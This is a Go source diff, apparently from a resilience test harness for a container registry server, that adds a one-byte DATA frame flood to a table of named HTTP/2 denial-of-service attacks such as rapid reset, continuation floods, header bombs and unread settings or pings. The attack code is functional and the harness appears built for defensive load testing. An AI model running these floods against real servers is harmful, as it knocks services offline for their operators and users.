@@ -4,7 +4,9 @@ import (
 	"bytes"
 	"errors"
 	"fmt"
+	"maps"
 	"net"
+	"slices"
 	"strings"
 	"time"
 )
@@ -15,21 +17,22 @@ import (
 type attack func(stop time.Time) error
 
 var attacksHTTP2 = map[string]attack{
-	"rapid reset":          flood(true, func(id uint32) []byte { return pair(id, frame(reset, 0, id, number(8))) }),
-	"resets made by us":    flood(true, func(id uint32) []byte { return pair(id, frame(windowUpdate, 0, id, number(0))) }),
-	"settings":             flood(false, func(uint32) []byte { return frame(settings, 0, 0, nil) }),
-	"settings unread":      unread(func(uint32) []byte { return frame(settings, 0, 0, nil) }),
-	"pings unread":         unread(func(uint32) []byte { return frame(ping, 0, 0, make([]byte, 8)) }),
-	"requests unread":      unread(func(id uint32) []byte { return frame(headers, endStream|endHeaders, id, head("GET", "/v2/")) }),
-	"priorities":           flood(false, func(id uint32) []byte { return frame(priority, 0, id, []byte{0, 0, 0, 0, 1}) }),
-	"continuation":         continued(make([]byte, 0)),
-	"long continuation":    continued(bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 3000)),
-	"empty data":           upload(func(id uint32) []byte { return frame(data, 0, id, nil) }),
-	"padded data":          upload(func(id uint32) []byte { return frame(data, 8, id, append([]byte{255}, make([]byte, 255)...)) }),
-	"window overflow":      overflow,
-	"header list":          headerBomb,
-	"zero window":          zeroWindow,
-	"data into the window": intoWindow,
+	"rapid reset":           flood(true, func(id uint32) []byte { return pair(id, frame(reset, 0, id, number(8))) }),
+	"resets made by us":     flood(true, func(id uint32) []byte { return pair(id, frame(windowUpdate, 0, id, number(0))) }),
+	"settings":              flood(false, func(uint32) []byte { return frame(settings, 0, 0, nil) }),
+	"settings unread":       unread(func(uint32) []byte { return frame(settings, 0, 0, nil) }),
+	"pings unread":          unread(func(uint32) []byte { return frame(ping, 0, 0, make([]byte, 8)) }),
+	"requests unread":       unread(func(id uint32) []byte { return frame(headers, endStream|endHeaders, id, head("GET", "/v2/")) }),
+	"priorities":            flood(false, func(id uint32) []byte { return frame(priority, 0, id, []byte{0, 0, 0, 0, 1}) }),
+	"continuation":          continued(make([]byte, 0)),
+	"long continuation":     continued(bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 3000)),
+	"empty data":            upload(func(id uint32) []byte { return frame(data, 0, id, nil) }),
+	"padded data":           upload(func(id uint32) []byte { return frame(data, 8, id, append([]byte{255}, make([]byte, 255)...)) }),
+	"window overflow":       overflow,
+	"header list":           headerBomb,
+	"zero window":           zeroWindow,
+	"data into the window":  intoWindow,
+	"bytes into the window": bytesIntoWindow,
 }
 
 var attacksHTTP1 = map[string]attack{
@@ -55,8 +58,8 @@ func hostile() error {
 	quick := newCaller()
 	defer quick.close()
 	var all error
-	for name, attack := range attacks {
-		start := time.Now()
+	for _, name := range slices.Sorted(maps.Keys(attacks)) {
+		attack, start := attacks[name], time.Now()
 		err := meanwhile(quick.ping, func() error {
 			return attack(start.Add(time.Duration(*seconds) * time.Second))
 		})
@@ -264,6 +267,30 @@ func intoWindow(stop time.Time) error {
 		for id := uint32(1); id < 10; id += 2 {
 			request := frame(headers, endHeaders, id, head("GET", repository+"/blobs/"+*blob))
 			if _, err := conn.Write(append(request, frame(data, 0, id, filler[:min(len(filler), 13000)])...)); err != nil {
+				return nil
+			}
+		}
+		ends(conn, time.Until(stop))
+		return nil
+	})
+}
+
+// bytesIntoWindow does the same with frames of one byte: each is more to keep
+// than what it carries.
+func bytesIntoWindow(stop time.Time) error {
+	return all(4*attackers, func(int) error {
+		conn, err := dialHTTP2()
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		if _, err := conn.Write(frame(headers, endHeaders, 1, head("GET", repository+"/blobs/"+*blob))); err != nil {
+			return nil
+		}
+		_ = conn.SetWriteDeadline(stop)
+		many := bytes.Repeat(frame(data, 0, 1, []byte{0}), 1000)
+		for i := 0; i < 65; i++ {
+			if _, err := conn.Write(many); err != nil {
 				return nil
 			}
 		}
